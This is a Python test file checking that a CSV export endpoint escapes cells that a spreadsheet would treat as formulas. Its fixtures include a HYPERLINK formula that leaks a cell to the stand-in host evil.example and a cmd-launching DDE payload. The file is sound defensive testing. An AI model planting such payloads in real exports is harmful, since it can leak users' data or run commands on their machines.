"""CSV formula injection: text a spreadsheet would run as a formula (an agent named
`=HYPERLINK(…)`, a tag `=1+2`) is exported so that it is shown as text, over GET /export."""

import copy
import csv
import io
import json
from typing import Any

import httpx
import redis.asyncio as redis
from ulid import ULID

from parley.resolvers import sotopia_format as fmt
from tests.support import sotopia_records as sotopia

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
HOSTILE = {
    "experiment_tag": "=1+2",
    "scenario": "+SUM(1,2) the harbour at dusk",
    "codename": "@SUM(A1:A9)",
    "reasoning": "-2+3+cmd|' /C calc'!A0",
    "raw_rewards_prompt": "\t=1+1",
    "experiment_id": "\r=1+1",
}
"""A cell of each column Parley writes as text, each starting with one of = + - @ tab CR."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def store_hostile_episode(client: redis.Redis) -> str:
    """Sotopia-shaped records whose texts are formulas, written as Sotopia would; the scenario's
    id (the episode is its only one)."""
    ids = {name: str(ULID()) for name in ("nora", "emil", "scenario", "episode")}
    nora = {**sotopia.NORA, "pk": ids["nora"], "first_name": LINK}
    emil = {**sotopia.EMIL, "pk": ids["emil"]}
    scenario = {
        **sotopia.SCENARIO,
        "pk": ids["scenario"],
        "scenario": HOSTILE["scenario"],
        "codename": HOSTILE["codename"],
    }
    speaker = f"{LINK} Lindqvist"
    messages = [
        [[part.replace("Nora Lindqvist", speaker) for part in message] for message in turn]
        for turn in copy.deepcopy(sotopia.MESSAGES)
    ]
    episode = {
        **sotopia.EPISODE,
        "pk": ids["episode"],
        "environment": ids["scenario"],
        "agents": [ids["nora"], ids["emil"]],
        "tag": HOSTILE["experiment_tag"],
        "messages": messages,
        "reasoning": HOSTILE["reasoning"],
        "rewards_prompt": HOSTILE["raw_rewards_prompt"],
        "experiment_id": HOSTILE["experiment_id"],
    }
    profiles, logs = sotopia.PROFILES, sotopia.LOGS
    for key, doc in (
        (f"{profiles}.AgentProfile:{ids['nora']}", nora),
        (f"{profiles}.AgentProfile:{ids['emil']}", emil),
        (f"{profiles}.EnvironmentProfile:{ids['scenario']}", scenario),
        (f"{logs}.EpisodeLog:{ids['episode']}", episode),
    ):
        await client.json().set(key, "$", doc)
    return ids["scenario"]


async def test_no_exported_csv_cell_starts_a_formula(
    api_url: str, redis_client: redis.Redis
) -> None:
    scenario_id = await store_hostile_episode(redis_client)
    async with httpx.AsyncClient(base_url=api_url, timeout=30) as http:
        response = await http.get(
            "/export", params={"kind": "episodes", "format": "csv", "scenario": scenario_id}
        )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert len(rows) == 1
    row = rows[0]
    starting_a_formula = {k: v for k, v in row.items() if v.startswith(FORMULA_STARTS)}
    assert starting_a_formula == {}
    for column, text in HOSTILE.items():
        assert row[column] == "'" + text, column  # shown as text, nothing else changed
    assert row["social_interactions"].startswith(f"'{LINK} Lindqvist said: ")
    # The JSON cells start with [ or { and are left as they are: they read back as JSON.
    assert json.loads(row["raw_messages"])[0][2][0] == f"{LINK} Lindqvist"
    assert row["status"] == "COMPLETED"


def test_numbers_stay_numbers_and_safe_text_is_unchanged() -> None:
    line: dict[str, Any] = {
        "episode_id": "e1",
        "experiment_tag": -1.5,
        "raw_rewards": [-1.0, 2],
        "scenario": "a (=1+2) inside the text is no formula",
        "codename": "",
        "reasoning": "x-1",
    }
    row = next(csv.DictReader(io.StringIO(fmt.csv_header() + fmt.csv_row(line), newline="")))
    assert row["experiment_tag"] == "-1.5"
    assert row["raw_rewards"] == "[-1.0, 2]"
    assert row["scenario"] == line["scenario"]
    assert row["codename"] == ""
    assert row["reasoning"] == "x-1"
